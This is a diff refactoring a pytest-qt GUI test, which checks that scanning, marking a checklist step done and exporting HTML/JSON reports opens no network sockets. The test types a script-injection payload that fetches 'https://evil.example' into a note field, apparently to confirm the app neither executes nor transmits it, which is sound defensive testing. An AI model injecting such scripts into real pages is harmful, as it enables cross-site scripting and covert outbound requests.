@@ -46,10 +46,11 @@ def test_scan_mark_export_opens_no_socket(qtbot: QtBot, tmp_path: Path) -> None:
         window.start_scan()
     held.append(_inet_sockets_held())
     window.tabs.setCurrentIndex(1)
-    window.step_table.selectRow(0)
-    window.note.setText("<script>fetch('https://evil.example')</script>")
-    qtbot.mouseClick(window.mark_buttons["done"], Qt.MouseButton.LeftButton)
-    assert window.steps.status(0).state == "done"
+    panel = window.checklist
+    panel.table.selectRow(0)
+    panel.note.setText("<script>fetch('https://evil.example')</script>")
+    qtbot.mouseClick(panel.mark_buttons["done"], Qt.MouseButton.LeftButton)
+    assert panel.model.status(0).state == "done"
     held.append(_inet_sockets_held())
     for name in ("report.html", "report.json"):
         target = tmp_path / name
